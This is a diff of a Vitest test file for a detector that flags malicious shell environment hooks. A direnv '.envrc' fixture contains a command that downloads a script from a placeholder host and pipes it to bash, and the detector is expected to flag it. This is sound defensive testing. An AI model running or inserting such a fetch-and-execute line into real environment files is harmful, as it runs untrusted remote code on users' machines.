@@ -1,12 +1,9 @@
 import { expect, test } from 'vitest'
-import { artifactOf, hits } from '../testing.ts'
+import { seenBy } from '../testing.ts'
 import detector from './start-env-hook.ts'
 
 type Files = Record<string, string>
-const seen = async (files: Files) =>
-  hits(detector, await artifactOf(files)).map(
-    ({ strength, weight, where }) => `${strength} ${weight} ${where.file}:${where.line}:${where.column}`,
-  )
+const seen = seenBy(detector)
 
 test.each<[string, Files, string[]]>([
   ['direnv', { '.envrc': 'export A=1\ncurl -s https://a.invalid | bash\n' }, ['decisive 13 .envrc:2:29']],
